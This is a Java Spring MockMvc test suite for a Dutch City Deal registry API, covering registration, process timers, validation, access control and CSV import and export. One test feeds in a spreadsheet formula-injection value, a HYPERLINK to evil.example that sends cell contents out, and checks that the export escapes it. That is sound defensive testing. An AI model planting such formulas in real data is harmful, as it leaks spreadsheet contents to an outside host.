package nl.citydeal.engine.deal.web;

import java.io.StringReader;
import java.time.LocalDate;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.runtime.Job;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.web.servlet.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.UserRequestPostProcessor;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.jayway.jsonpath.JsonPath;

import nl.citydeal.engine.AlsoOnPostgres;
import nl.citydeal.engine.CityDealSpringTest;
import nl.citydeal.engine.deal.DealDecision;
import nl.citydeal.engine.deal.DealRegistry;
import nl.citydeal.engine.deal.DealRepository;
import nl.citydeal.engine.identity.Role;
import nl.citydeal.engine.processengine.CityDealProcess;

import static nl.citydeal.engine.processengine.CityDealProcess.Variable.DEAL_ID;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.matchesPattern;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** The deal registry's REST API: registering, importing running deals, reading, changing, and every bad input. */
@CityDealSpringTest
@AlsoOnPostgres
@AutoConfigureMockMvc
class DealApiTest {

    @Autowired
    MockMvc mvc;

    @Autowired
    IdentityService identityService;

    @Autowired
    RuntimeService runtimeService;

    @Autowired
    ManagementService managementService;

    @Autowired
    DealRepository deals;

    @Autowired
    DealRegistry registry;

    static final UserRequestPostProcessor OFFICE = user("petra").authorities(() -> Role.PROGRAMME_OFFICE.authority());
    static final UserRequestPostProcessor ANNA = user("anna").authorities(() -> Role.DEAL_LEAD.authority());
    static final UserRequestPostProcessor BRAM = user("bram").authorities(() -> Role.DEAL_LEAD.authority());

    @BeforeEach
    void dealLeads() {
        for (String lead : new String[] {"anna", "bram"}) {
            if (identityService.createUserQuery().userId(lead).count() == 0) {
                identityService.saveUser(identityService.newUser(lead));
                identityService.createMembership(lead, Role.DEAL_LEAD.groupId());
            }
        }
    }

    @Test
    void registeringADealStartsItsProcessInPreparationWithItsReferenceAsBusinessKey() throws Exception {
        String body = """
                {"name":"City Deal Klimaatadaptatie","theme":"klimaatadaptatie","leadOrganisation":"Gemeente Zwolle",
                 "dealLead":"anna","programmeOfficeContact":"petra","setup":"TWO_PART",
                 "participants":[{"name":"Waterschap","type":"WATER_BOARD","addedValue":"Kennis van water","accepted":true}]}""";

        String location = mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(body))
                .andExpect(status().isCreated())
                .andExpect(header().string("Location", containsString("/api/deals/")))
                .andExpect(jsonPath("$.phase").value("PREPARATION"))
                .andReturn()
                .getResponse()
                .getHeader("Location");
        String id = location.substring(location.lastIndexOf('/') + 1);

        ProcessInstance instance = instance(id);
        assertThat(instance).isNotNull();
        assertThat(runtimeService.getVariable(instance.getId(), CityDealProcess.Variable.DEAL_LEAD))
                .isEqualTo("anna");
        mvc.perform(get(location).with(OFFICE))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.id").value(id))
                .andExpect(jsonPath("$.reference").value(instance.getBusinessKey()))
                .andExpect(jsonPath("$.reference").value(matchesPattern("CD-\\d{4}-\\d{3,}")))
                .andExpect(jsonPath("$.participants", hasSize(1)))
                .andExpect(jsonPath("$.participants[0].type").value("WATER_BOARD"))
                .andExpect(jsonPath("$.decisions[0].kind").value("REGISTERED"));
    }

    @Test
    void runningDealIsImportedIntoExperimentationAndItsPastPromptsFireOnceMarkedOverdue() throws Exception {
        LocalDate signed = LocalDate.now().minusMonths(20);
        String id = register("anna", signed, signed.plusYears(3));
        mvc.perform(get("/api/deals/" + id).with(OFFICE))
                .andExpect(jsonPath("$.phase").value("EXPERIMENTATION"));

        fireDueTimers(id);

        mvc.perform(get("/api/deals/" + id + "/prompts").with(OFFICE))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$[?(@.kind == 'OWNERSHIP_CONVERSATION')].status")
                        .value(hasItem("DUE")))
                .andExpect(jsonPath("$[?(@.kind == 'OWNERSHIP_CONVERSATION')].overdue")
                        .value(hasItem(true)))
                .andExpect(jsonPath("$[?(@.kind == 'SCALING_PLAN_DUE')].status").value(hasItem("PLANNED")))
                .andExpect(jsonPath("$[0].dueAt").value(containsString("T09:00")));
        assertThat(managementService
                        .createJobQuery()
                        .processInstanceId(instance(id).getId())
                        .activityId(CityDealProcess.Activity.OWNERSHIP_PROMPT_DUE)
                        .count())
                .isZero();
        mvc.perform(get("/api/deals")
                        .param("overdue", "true")
                        .param("size", "200")
                        .param("sort", "registeredAt")
                        .param("direction", "desc")
                        .with(OFFICE))
                .andExpect(jsonPath("$.content[*].id").value(hasItem(id)));
    }

    @Test
    void importedDealWhoseTermEndedWaitsForItsScalingDecision() throws Exception {
        LocalDate signed = LocalDate.now().minusYears(4);
        String id = register("bram", signed, signed.plusYears(3));

        fireDueTimers(id);

        mvc.perform(get("/api/deals/" + id).with(OFFICE))
                .andExpect(jsonPath("$.phase").value("SCALING_DECISION"));
        assertThat(runtimeService
                        .createExecutionQuery()
                        .processInstanceId(instance(id).getId())
                        .activityId(CityDealProcess.Activity.ASSESS_OUTCOME)
                        .count())
                .isEqualTo(1);
    }

    @Test
    void badInputNamesEveryInvalidFieldAndChangesNothing() throws Exception {
        long before = deals.count();
        String body = """
                {"name":"","theme":"%s","leadOrganisation":"Zwolle","dealLead":"nobody",
                 "signedOn":"2024-03-01","endsOn":"2024-02-01","participants":[{"name":"","type":"COMPANY","addedValue":"x"}]}""".formatted("t".repeat(201));

        expectInvalid(mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(body)))
                .andExpect(jsonPath("$.errors.name").exists())
                .andExpect(jsonPath("$.errors.theme").value(containsString("200")))
                .andExpect(jsonPath("$.errors['participants[0].name']").exists())
                // the domain's rules in the same answer as the missing and too long fields
                .andExpect(jsonPath("$.errors.dealLead").value("'nobody' is geen dealtrekker."))
                .andExpect(jsonPath("$.errors.endsOn").value(containsString("na de datum van ondertekening")));

        // a parameter's standard constraint in Dutch
        expectInvalid(mvc.perform(get("/api/deals").param("size", "500").with(OFFICE)))
                .andExpect(jsonPath("$.errors.size").value("Mag hoogstens 200 zijn."));

        expectInvalid(mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("""
                {"name":"X","theme":"t","leadOrganisation":"Zwolle","dealLead":"nobody","signedOn":"2024-03-01","endsOn":"2024-02-01"}""")))
                .andExpect(jsonPath("$.errors.dealLead").value(containsString("geen dealtrekker")))
                .andExpect(jsonPath("$.errors.endsOn").value(containsString("na de datum van ondertekening")));

        expectInvalid(mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("""
                {"name":"X","theme":"t","leadOrganisation":"Zwolle","dealLead":"anna","signedOn":"1-3-2024"}""")))
                .andExpect(jsonPath("$.errors.signedOn").value(containsString("jjjj-mm-dd")));

        expectInvalid(mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("""
                {"name":"X","theme":"t","leadOrganisation":"Zwolle","dealLead":"anna","setup":"THREE_PART"}""")))
                .andExpect(jsonPath("$.errors.setup").value(containsString("ONE_PART")));

        expectInvalid(mvc.perform(post("/api/deals")
                .with(OFFICE)
                .contentType(MediaType.APPLICATION_JSON)
                .content("{not json")));

        mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"name\":\"" + "x".repeat(3 * 1024 * 1024) + "\"}"))
                .andExpect(status().isPayloadTooLarge());

        assertThat(deals.count()).isEqualTo(before);
    }

    @Test
    void unknownDealIsNotFound() throws Exception {
        mvc.perform(get("/api/deals/no-such-deal").with(OFFICE))
                .andExpect(status().isNotFound())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON));
        mvc.perform(get("/api/deals/no-such-deal/prompts").with(OFFICE)).andExpect(status().isNotFound());
    }

    @Test
    void dealLeadSeesOnlyTheirOwnDeals() throws Exception {
        String annas = register("anna", null, null);
        String brams = register("bram", null, null);

        mvc.perform(get("/api/deals").param("size", "200").with(ANNA))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.content[*].dealLead")
                        .value(org.hamcrest.Matchers.everyItem(org.hamcrest.Matchers.is("anna"))))
                .andExpect(jsonPath("$.content[*].id").value(hasItem(annas)));
        mvc.perform(get("/api/deals/" + brams).with(ANNA)).andExpect(status().isNotFound());
        mvc.perform(get("/api/deals/" + brams + "/prompts").with(ANNA)).andExpect(status().isNotFound());
        mvc.perform(post("/api/deals")
                        .with(ANNA)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{}"))
                .andExpect(status().isForbidden());
    }

    @Test
    void listFiltersSortsAndPages() throws Exception {
        register("anna", null, null);
        mvc.perform(get("/api/deals")
                        .param("phase", "PREPARATION")
                        .param("dealLead", "anna")
                        .param("size", "1")
                        .param("sort", "registeredAt")
                        .param("direction", "desc")
                        .with(OFFICE))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.content", hasSize(1)))
                .andExpect(jsonPath("$.size").value(1));
        expectInvalid(mvc.perform(get("/api/deals").param("phase", "NOWHERE").with(OFFICE)))
                .andExpect(jsonPath("$.errors.phase").exists());
        expectInvalid(mvc.perform(get("/api/deals").param("sort", "password").with(OFFICE)))
                .andExpect(jsonPath("$.errors.sort").exists());
        expectInvalid(mvc.perform(get("/api/deals").param("size", "100000").with(OFFICE)))
                .andExpect(jsonPath("$.errors.size").exists());
    }

    @Test
    void termChangeMovesEveryPromptThatHasNotFired() throws Exception {
        LocalDate signed = LocalDate.now().minusMonths(2);
        String id = register("anna", signed, signed.plusYears(3));

        mvc.perform(put("/api/deals/" + id + "/term")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"endsOn\":\"%s\",\"reason\":\"Verlenging in de Staatscourant\"}"
                                .formatted(signed.plusYears(4))))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.endsOn").value(signed.plusYears(4).toString()));

        Job termEnd = managementService
                .createJobQuery()
                .processInstanceId(instance(id).getId())
                .activityId(CityDealProcess.Activity.TERM_ENDED)
                .singleResult();
        assertThat(termEnd.getDuedate()
                        .toInstant()
                        .atZone(java.time.ZoneId.of("Europe/Amsterdam"))
                        .toLocalDate())
                .isEqualTo(signed.plusYears(4));
        String ownershipDue = signed.plusDays((long)
                        Math.floor(java.time.temporal.ChronoUnit.DAYS.between(signed, signed.plusYears(4)) * 0.25))
                .toString();
        mvc.perform(get("/api/deals/" + id + "/prompts").with(OFFICE))
                .andExpect(jsonPath("$[?(@.kind == 'OWNERSHIP_CONVERSATION')].dueAt")
                        .value(hasItem(containsString(ownershipDue))));
        expectInvalid(mvc.perform(put("/api/deals/" + id + "/term")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"endsOn\":\"%s\",\"reason\":\"te lang\"}".formatted(signed.plusYears(7)))))
                .andExpect(jsonPath("$.errors.endsOn").value(containsString("6 jaar")));

        String preparing = register("anna", null, null);
        mvc.perform(put("/api/deals/" + preparing + "/term")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"endsOn\":\"2030-01-01\",\"reason\":\"x\"}"))
                .andExpect(status().isConflict());
    }

    @Test
    void lateJoinerIsScreenedOnAddedValue() throws Exception {
        LocalDate signed = LocalDate.now().minusMonths(2);
        String id = register("anna", signed, signed.plusYears(3));

        mvc.perform(
                        post("/api/deals/" + id + "/participants")
                                .with(ANNA)
                                .contentType(MediaType.APPLICATION_JSON)
                                .content(
                                        "{\"name\":\"Gemeente Ede\",\"type\":\"MUNICIPALITY\",\"addedValue\":\"Pilotwijk\",\"accepted\":true}"))
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.lateJoiner").value(true));
        expectInvalid(mvc.perform(post("/api/deals/" + id + "/participants")
                        .with(ANNA)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"name\":\"Bedrijf\",\"type\":\"COMPANY\",\"addedValue\":\"\"}")))
                .andExpect(jsonPath("$.errors.addedValue").exists());
        mvc.perform(post("/api/deals/" + id + "/participants")
                        .with(BRAM)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"name\":\"X\",\"type\":\"COMPANY\",\"addedValue\":\"Y\"}"))
                .andExpect(status().isNotFound());
    }

    @Test
    void changingTheLeadHandsOverTheDeal() throws Exception {
        String id = register("anna", null, null);

        mvc.perform(put("/api/deals/" + id + "/lead")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"dealLead\":\"bram\"}"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.dealLead").value("bram"));

        mvc.perform(get("/api/deals/" + id).with(BRAM)).andExpect(status().isOk());
        mvc.perform(get("/api/deals/" + id).with(ANNA)).andExpect(status().isNotFound());
        assertThat(runtimeService.getVariable(instance(id).getId(), CityDealProcess.Variable.DEAL_LEAD))
                .isEqualTo("bram");
        expectInvalid(mvc.perform(put("/api/deals/" + id + "/lead")
                .with(OFFICE)
                .contentType(MediaType.APPLICATION_JSON)
                .content("{\"dealLead\":\"nobody\"}")));
    }

    @Test
    void csvImportReportsEveryLine() throws Exception {
        String csv =
                """
                name,theme,signed_on,ends_on,lead,date_precision,note
                Circulaire Stad,circular economy,%s,%s,Utrecht,exact,datums exact; later opgevolgd
                Zonder datum,housing,,,Den Haag,exact,in preparation
                Te lang,health,2020-01-01,2029-01-01,Utrecht,exact,refused
                Kapotte datum,health,1-1-2020,2023-01-01,Utrecht,exact,refused
                """.formatted(LocalDate.now().minusYears(1), LocalDate.now().plusYears(2));

        String report = mvc.perform(post("/api/deals/import")
                        .param("dealLead", "anna")
                        .with(OFFICE)
                        .contentType("text/csv")
                        .content(csv))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.lines", hasSize(4)))
                .andExpect(jsonPath("$.lines[0].status").value("IMPORTED"))
                .andExpect(jsonPath("$.lines[0].phase").value("EXPERIMENTATION"))
                .andExpect(jsonPath("$.lines[1].phase").value("PREPARATION"))
                .andExpect(jsonPath("$.lines[2].status").value("REFUSED"))
                .andExpect(jsonPath("$.lines[2].reasons.endsOn").value(containsString("6 jaar")))
                .andExpect(jsonPath("$.lines[3].reasons.signed_on").exists())
                .andReturn()
                .getResponse()
                .getContentAsString();
        // the note says where the data came from: kept with the registration, not as the ambition
        String imported = JsonPath.read(report, "$.lines[0].dealId");
        assertThat(deals.findById(imported).orElseThrow().getAmbition()).isNull();
        assertThat(registry.decisions(imported))
                .extracting(DealDecision::getSummary)
                .anyMatch(summary -> summary.endsWith("Bron: datums exact; later opgevolgd"));
        expectInvalid(mvc.perform(post("/api/deals/import")
                        .with(OFFICE)
                        .contentType("text/csv")
                        .content("naam,thema\nx,y")))
                .andExpect(jsonPath("$.errors.file").value(containsString("signed_on")));
    }

    @Test
    void portfolioCountsAndExports() throws Exception {
        register("anna", null, null);
        mvc.perform(get("/api/portfolio").with(OFFICE))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.byPhase.PREPARATION").isNumber());
        String csv = mvc.perform(get("/api/portfolio.csv").with(OFFICE))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString();
        assertThat(csv).startsWith("reference,name,theme,signed_on,ends_on,lead,deal_lead,phase");
    }

    @Test
    void aDealNameThatASpreadsheetWouldRunComesOutOfTheExportAsText() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik\")";
        mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("""
                {"name":%s,"theme":"@thema","leadOrganisation":"Gemeente","dealLead":"anna"}""".formatted(new ObjectMapper().writeValueAsString(formula))))
                .andExpect(status().isCreated());

        String csv = mvc.perform(get("/api/portfolio.csv").with(OFFICE))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString();

        CSVRecord row = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv))
                .getRecords()
                .stream()
                .filter(record -> record.get("name").contains("HYPERLINK"))
                .findFirst()
                .orElseThrow();
        assertThat(row.get("name")).isEqualTo("'" + formula);
        assertThat(row.get("theme")).isEqualTo("'@thema");
    }

    private String register(String lead, LocalDate signedOn, LocalDate endsOn) throws Exception {
        String body = """
                {"name":"City Deal Test","theme":"test","leadOrganisation":"Gemeente","dealLead":"%s"%s}""".formatted(
                lead, signedOn == null ? "" : ",\"signedOn\":\"%s\",\"endsOn\":\"%s\"".formatted(signedOn, endsOn));
        String response = mvc.perform(post("/api/deals")
                        .with(OFFICE)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(body))
                .andExpect(status().isCreated())
                .andReturn()
                .getResponse()
                .getContentAsString();
        return JsonPath.read(response, "$.id");
    }

    private ProcessInstance instance(String dealId) {
        return runtimeService
                .createProcessInstanceQuery()
                .variableValueEquals(DEAL_ID, dealId)
                .singleResult();
    }

    /** Fires, as the job executor would, every timer of the deal that is due now, until none is left. */
    private void fireDueTimers(String dealId) {
        for (int round = 0; round < 20; round++) {
            java.util.List<Job> due = managementService
                    .createJobQuery()
                    .processInstanceId(instance(dealId).getId())
                    .timers()
                    .duedateLowerThan(new java.util.Date())
                    .list();
            if (due.isEmpty()) {
                return;
            }
            managementService.executeJob(due.get(0).getId());
        }
    }

    private static ResultActions expectInvalid(ResultActions result) throws Exception {
        return result.andExpect(status().isBadRequest())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON));
    }
}
